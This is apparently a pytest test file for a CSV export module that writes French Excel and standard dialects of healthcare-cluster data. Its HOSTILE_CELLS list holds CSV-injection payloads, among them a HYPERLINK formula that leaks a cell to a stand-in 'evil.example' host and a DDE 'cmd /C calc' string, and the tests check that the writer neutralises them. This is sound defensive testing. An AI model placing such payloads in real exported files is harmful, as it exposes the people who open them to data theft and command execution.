"""Both CSV dialects round-trip through pandas: numbers, ISO dates, lists and awkward text."""

from __future__ import annotations

import csv
import datetime as dt

import pandas as pd
import pytest

from flows.dataset.csv_dialects import (
    DIALECTS,
    LINE_END,
    _text_columns,
    append_csv,
    open_csv,
    prepare,
    read_csv,
    split_list,
    write_csv,
)


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": pd.Series(
                [
                    "CPTS Sud Ard’Drôm",
                    'CPTS "Cœur de Savoie"; Chambéry',
                    "CPTS de l'Yssingelais\nHaute-Loire",
                ],
                dtype="str",
            ),
            "population": pd.Series([45500, None, 47000], dtype="Int64"),
            "share": [51.2, 68.4, 0.5],
            "signed_on": pd.Series([dt.date(2023, 12, 1), None, dt.date(2024, 5, 2)], dtype=object),
            "processed_at": pd.to_datetime(
                ["2026-01-01T10:30:00Z", "2026-01-01T10:30:00Z", "2026-01-02T08:00:00Z"], utc=True
            ),
            "departments": pd.Series([["07", "26"], [], ["43"]], dtype=object),
            "per_year": [True, False, True],
        }
    )


@pytest.mark.parametrize(
    ("dialect", "first_bytes", "separator"),
    [
        pytest.param("standard", b"name,", ",", id="standard"),
        pytest.param("excel-fr", b"\xef\xbb\xbfname;", ";", id="excel-fr-bom"),
    ],
)
def test_round_trip(tmp_path, dialect, first_bytes, separator):
    path = write_csv(_frame(), tmp_path / f"cpts.{dialect}.csv", dialect=dialect)
    assert path.read_bytes().startswith(first_bytes)
    options = DIALECTS[dialect]
    back = pd.read_csv(
        path, sep=separator, decimal=options["decimal"], encoding=options["encoding"],
        dtype={"departments": str, "population": str}, keep_default_na=False,
        true_values=[options["true"]], false_values=[options["false"]],
    )
    expected = _frame()
    assert back["name"].tolist() == expected["name"].tolist()
    assert back["share"].tolist() == [51.2, 68.4, 0.5]
    assert back["population"].tolist() == ["45500", "", "47000"]
    assert back["signed_on"].tolist() == ["2023-12-01", "", "2024-05-02"]
    assert back["processed_at"].tolist()[0] == "2026-01-01T10:30:00+00:00"
    assert [split_list(v) for v in back["departments"]] == [["07", "26"], [], ["43"]]
    assert back["per_year"].tolist() == [True, False, True]


@pytest.mark.parametrize(
    "dialect",
    [pytest.param("standard", id="standard"), pytest.param("excel-fr", id="excel-fr")],
)
def test_read_csv_restores_types(tmp_path, dialect):
    path = write_csv(_frame(), tmp_path / "t.csv", dialect=dialect)
    back = read_csv(path, dialect=dialect, list_columns=["departments"])
    assert back["population"].astype("Int64").tolist()[0] == 45500
    assert pd.isna(back["population"][1])
    assert back["share"].dtype == float
    assert pd.to_datetime(back["signed_on"]).dt.date.tolist()[2] == dt.date(2024, 5, 2)
    assert back["departments"].tolist() == [["07", "26"], [], ["43"]]


@pytest.mark.parametrize(
    ("dialect", "decimal_text"),
    [pytest.param("standard", "51.2", id="point"), pytest.param("excel-fr", "51,2", id="comma")],
)
def test_decimal_mark(tmp_path, dialect, decimal_text):
    text = write_csv(_frame(), tmp_path / "t.csv", dialect=dialect).read_text("utf-8-sig")
    assert decimal_text in text
    assert "Ard’Drôm" in text


@pytest.mark.parametrize(
    ("dialect", "words"),
    [pytest.param("standard", ("True", "False"), id="standard"),
     pytest.param("excel-fr", ("VRAI", "FAUX"), id="excel-fr")],
)
def test_booleans_in_the_words_of_the_dialect(tmp_path, dialect, words):
    # French Excel reads VRAI/FAUX as booleans; "True" would stay a piece of text.
    path = write_csv(_frame(), tmp_path / "t.csv", dialect=dialect)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=DIALECTS[dialect]["sep"]))
    assert [r[-1] for r in rows[1:]] == [words[0], words[1], words[0]]
    assert read_csv(tmp_path / "t.csv", dialect)["per_year"].tolist() == [True, False, True]


def test_unknown_dialect(tmp_path):
    with pytest.raises(ValueError, match="unknown CSV dialect 'tsv'"):
        write_csv(_frame(), tmp_path / "t.csv", dialect="tsv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        pytest.param("07|26", ["07", "26"], id="two"),
        pytest.param("", [], id="empty"),
        pytest.param(float("nan"), [], id="nan"),
        pytest.param(["43"], ["43"], id="already-a-list"),
    ],
)
def test_split_list(cell, expected):
    assert split_list(cell) == expected


# Cells a spreadsheet would evaluate (OWASP "CSV injection"), as they reach our text columns:
# an HTML <title>, a PDF's metadata, a sentence that opens a list, a file name.
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "+33 1 23 45 67 89",
    "- 12 communes du Vexin",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'déjà apostrophé",
    "'=2+2",
]
HARMLESS_CELLS = ["CPTS du Lac", "45 000 habitants", "Saint-Étienne", "", "a=b", "x-y"]


@pytest.mark.parametrize("dialect", ["standard", "excel-fr"])
@pytest.mark.parametrize("dtype", [object, "str"])
def test_no_cell_starts_a_formula_in_either_dialect(tmp_path, dialect, dtype):
    cells = HOSTILE_CELLS + HARMLESS_CELLS
    frame = pd.DataFrame({"title": pd.Series(cells, dtype=dtype),
                          "departments": pd.Series([["=1"]] + [[]] * (len(cells) - 1),
                                                   dtype=object)})
    path = write_csv(frame, tmp_path / "t.csv", dialect=dialect)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=DIALECTS[dialect]["sep"]))[1:]
    for title, departments in rows:
        for cell in (title, departments):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    written = dict(zip(cells, (r[0] for r in rows), strict=True))
    assert all(written[c] == "'" + c for c in HOSTILE_CELLS)
    assert all(written[c] == c for c in HARMLESS_CELLS)
    back = read_csv(path, dialect, list_columns=["departments"])
    assert back["title"].fillna("").tolist() == cells  # read_csv gives back the exact values
    assert back["departments"].tolist()[0] == ["=1"]


def test_numbers_keep_their_sign(tmp_path):
    frame = pd.DataFrame({"delta": pd.Series([-5, 3], dtype="Int64"), "rate": [-0.5, 1.0]})
    text = write_csv(frame, tmp_path / "t.csv").read_text()
    assert text.splitlines()[1:] == ["-5,-0.5", "3,1.0"]


def _contract_frame() -> pd.DataFrame:
    """Every dtype of the contract's tables, with the cells the CSV writer must quote or
    escape in either dialect, and nulls of every kind."""
    text = [*HOSTILE_CELLS, *HARMLESS_CELLS, 'say "hi"', "a,b", "a;b", "line\nbreak",
            "cr\ronly", " lead", "trail ", "ünï ’", "nul\0", "😀 \"q\"", '"', None]
    n = len(text)
    lists = [["07", "26"], [], ["=1", None, 3], ("2A",), None, *([["x;y", 'q"'], ["a,b"]]
                                                                 * n)][:n]
    return pd.DataFrame({
        "text": pd.Series(text, dtype="str"),
        "loose": pd.Series([*text[:-3], 5, dt.date(2024, 1, 2), float("nan")], dtype=object),
        "count": pd.Series([*range(-3, n - 4), None], dtype="Int64"),
        "plain_int": list(range(n)),
        "flag": [i % 2 == 0 for i in range(n)],
        "signed_on": pd.Series([dt.date(2023, 12, 1), None] * (n // 2) + [None] * (n % 2),
                               dtype=object),
        "processed_at": pd.to_datetime(["2026-01-01T10:30:00Z"] * (n - 1) + [None], utc=True),
        "seen_on": pd.to_datetime([None] + ["2026-01-01T10:30:00Z"] * (n - 1), utc=True),
        "departments": pd.Series(lists, dtype=object),
    })


@pytest.mark.parametrize("dialect", ["standard", "excel-fr"])
@pytest.mark.parametrize("header", [True, False])
@pytest.mark.parametrize("rows", [None, 0, 1])
@pytest.mark.parametrize("loose", [False, True])
def test_append_csv_writes_what_to_csv_wrote(tmp_path, dialect, header, rows, loose):
    # append_csv quotes and joins the cells with Arrow (flows/dataset/csv_lines.py), unless an
    # object column holds a number (`loose`); these are the bytes pandas' to_csv wrote for
    # the same prepared frame.
    frame = _contract_frame().iloc[:rows]
    if not loose:
        frame = frame.drop(columns="loose")
    assert (_text_columns(frame, dialect) is None) == (loose and rows is None)
    options = DIALECTS[dialect]
    expected = prepare(frame, dialect).to_csv(
        index=False, header=header, sep=options["sep"], decimal=options["decimal"],
        lineterminator=LINE_END)
    with open_csv(tmp_path / "t.csv", dialect) as handle:
        append_csv(frame, handle, dialect, header=header)
    written = (tmp_path / "t.csv").read_bytes().decode(options["encoding"])
    assert written == expected
    assert _text_columns(frame.assign(share=0.5), dialect) is None  # floats: pandas prints them
